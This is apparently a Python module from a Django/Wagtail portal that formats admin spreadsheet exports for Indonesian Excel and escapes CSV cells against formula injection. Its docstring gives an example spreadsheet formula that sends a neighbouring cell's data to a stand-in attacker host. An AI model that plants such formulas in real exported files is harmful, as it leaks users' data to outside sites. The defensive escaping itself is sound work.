"""Cells for spreadsheets that people open in Excel, LibreOffice or Google Sheets.

A CSV cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab, carriage return or
line feed, which spreadsheet programs skip before looking) is run as a formula when the
file is opened: a member named ``=HYPERLINK("http://evil.example/?"&A1,"klik")`` would
send the row next to it to another site. Every CSV the portal writes passes its text
cells through ``csv_cell`` (OWASP's advice: prefix an apostrophe, so the cell is shown
as text). XLSX cells carry a type instead: they are written as strings (``data_type``
``"s"``), never as formulas, and need no prefix.
"""

from __future__ import annotations

import csv
import datetime

from django.utils import timezone
from django.utils.encoding import force_str
from django.utils.text import capfirst
from django.utils.translation import gettext
from wagtail.admin.views.mixins import Echo
from wagtail.admin.views.mixins import SpreadsheetExportMixin as WagtailSpreadsheetExportMixin

from core.clock import WIB

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value):
    """``value`` as a CSV cell that no spreadsheet program runs; non-text values unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


# -- Wagtail's list exports, as Excel set to Indonesian opens them -----------------------------

CSV_DELIMITER = ";"  # Indonesian Excel's list separator: the comma is its decimal separator
CSV_BOM = "\ufeff"  # without it, Excel reads UTF-8 as the local code page (Nur'aini garbled)
XLSX_DATETIME_FORMAT = "dd/mm/yyyy hh:mm"
XLSX_DATE_FORMAT = "dd/mm/yyyy"
CSV_DATETIME_FORMAT = "%d/%m/%Y %H:%M"
CSV_DATE_FORMAT = "%d/%m/%Y"
COLUMN_WIDTH_MIN, COLUMN_WIDTH_MAX = 8, 60
SHEET_TITLE_FORBIDDEN = str.maketrans(dict.fromkeys("[]:*?/\\", " "))


def _local(value: datetime.datetime) -> datetime.datetime:
    """A datetime on the branch's clock (WIB), naive: spreadsheets have no time zones."""
    return timezone.make_naive(value, WIB) if timezone.is_aware(value) else value


def _yes_no(value: bool) -> str:
    return gettext("yes") if value else gettext("no")


class SpreadsheetExportMixin(WagtailSpreadsheetExportMixin):
    """Every admin export of the portal (mixed into the viewsets' index views before Wagtail's).

    CSV: ``;``-separated, UTF-8 with a byte-order mark, text cells through ``csv_cell``.
    XLSX: a sheet named after the listing, columns wide enough for their text, and dates
    typed as dates in WIB (``dd/mm/yyyy hh:mm``). Both: ``ya``/``tidak``, never ``True``.
    """

    FORMAT_CSV = WagtailSpreadsheetExportMixin.FORMAT_CSV
    FORMAT_XLSX = WagtailSpreadsheetExportMixin.FORMAT_XLSX

    custom_value_preprocess = {
        **WagtailSpreadsheetExportMixin.custom_value_preprocess,  # first: ours replace its entries in place
        datetime.datetime: {
            FORMAT_XLSX: _local,
            FORMAT_CSV: lambda value: _local(value).strftime(CSV_DATETIME_FORMAT),
        },
        datetime.date: {FORMAT_XLSX: None, FORMAT_CSV: lambda value: value.strftime(CSV_DATE_FORMAT)},
        bool: {FORMAT_XLSX: _yes_no, FORMAT_CSV: _yes_no},
    }

    def get_sheet_title(self) -> str:
        title = capfirst(force_str(self.model._meta.verbose_name_plural))
        return title.translate(SHEET_TITLE_FORBIDDEN)[:31]  # Excel's limits on sheet names

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: csv_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    def stream_csv(self, queryset):
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export, delimiter=CSV_DELIMITER)
        headings = {field: csv_cell(self.get_heading(queryset, field)) for field in self.list_export}
        yield CSV_BOM.encode("utf-8")  # Wagtail's Echo hands back each row as UTF-8 bytes
        yield writer.writerow(headings)
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    def write_xlsx(self, queryset, output):
        from openpyxl import Workbook
        from openpyxl.utils import get_column_letter

        headings = [self.get_heading(queryset, field) for field in self.list_export]
        rows = [self.to_row_dict(item) for item in queryset]
        widths = [len(heading) for heading in headings]
        for row in rows:
            for index, (field, value) in enumerate(row.items()):
                shown = self.preprocess_field_value(field, value, self.FORMAT_CSV)
                widths[index] = max(widths[index], len(force_str(shown)))

        workbook = Workbook(write_only=True, iso_dates=True)
        sheet = workbook.create_sheet(title=self.get_sheet_title())
        for index, width in enumerate(widths, start=1):
            width = min(max(width + 2, COLUMN_WIDTH_MIN), COLUMN_WIDTH_MAX)
            sheet.column_dimensions[get_column_letter(index)].width = width
        sheet.append(headings)
        for row in rows:
            sheet.append(self.generate_xlsx_row(sheet, row))
        workbook.save(output)

    def generate_xlsx_row(self, worksheet, row_dict, date_format=None):
        for cell, value in zip(super().generate_xlsx_row(worksheet, row_dict), row_dict.values(), strict=True):
            if isinstance(value, datetime.datetime):
                cell.number_format = XLSX_DATETIME_FORMAT
            elif isinstance(value, datetime.date):
                cell.number_format = XLSX_DATE_FORMAT
            yield cell
